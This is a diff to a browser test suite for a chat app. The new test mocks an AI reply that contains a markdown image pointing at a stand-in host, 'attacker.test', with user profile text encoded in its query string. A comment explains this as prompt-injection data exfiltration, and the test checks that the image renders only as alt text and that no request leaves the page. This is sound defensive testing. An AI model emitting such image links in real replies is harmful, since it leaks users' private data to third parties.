@@ -318,7 +318,10 @@ describeInBrowser('/chat against a slow OpenAI-compatible upstream (issue 20)', 
     bannerId = await seededBannerId(suite.product);
   });
 
-  afterEach(() => upstream.recover());
+  afterEach(() => {
+    upstream.recover();
+    upstream.replyWith();
+  });
 
   async function openChat(
     options: ContextOptions & { member?: Member } = {},
@@ -475,6 +478,43 @@ describeInBrowser('/chat against a slow OpenAI-compatible upstream (issue 20)', 
     expect(await page.getByText('Is "hey" a good opener?', { exact: true }).count()).toBe(1);
     await page.waitForFunction(() => /\d+ messages? left/.test(document.body.textContent ?? ''));
     expect(await messagesLeft(page)).toBe(before - 1);
+    expect(errors).toEqual([]);
+  });
+
+  // docs/decisions.md, "The browser's defences": AI text renders no remote images, so a reply steered by a prompt
+  // injection cannot make the browser carry the conversation to another host.
+  it("shows a reply's remote image as its alt text and never asks the image's host, live or from the history", async () => {
+    upstream.replyWith([
+      'Here is **your** opener. ',
+      '![profile summary](http://attacker.test/x?d=she%20loves%20climbing) ',
+      'Good luck!',
+    ]);
+    const { page, context, errors } = await openChat();
+    const attackerRequests: string[] = [];
+    await context.route('http://attacker.test/**', (route) => {
+      attackerRequests.push(route.request().url());
+      return route.abort();
+    });
+    page.on('request', (request) => {
+      if (request.url().includes('attacker.test')) attackerRequests.push(request.url());
+    });
+    const reply = conversation(page).getByRole('listitem').last();
+
+    /** The reply drawn as markdown (its bold word), the image as its words only. */
+    const expectImageAsAltText = async () => {
+      await reply.locator('strong', { hasText: 'your' }).waitFor();
+      expect(await reply.textContent()).toContain('profile summary Good luck!');
+      expect(await reply.locator('img').count()).toBe(0);
+    };
+    await sendByKeyboard(page, 'Write me an opener from my profile');
+    await reply.getByRole('button', { name: 'Copy' }).waitFor();
+    await expectImageAsAltText();
+
+    await page.reload();
+    await conversation(page).getByText('Write me an opener from my profile', { exact: true }).waitFor();
+    await expectImageAsAltText();
+    await page.waitForLoadState('networkidle');
+    expect(attackerRequests).toEqual([]);
     expect(errors).toEqual([]);
   });
 });
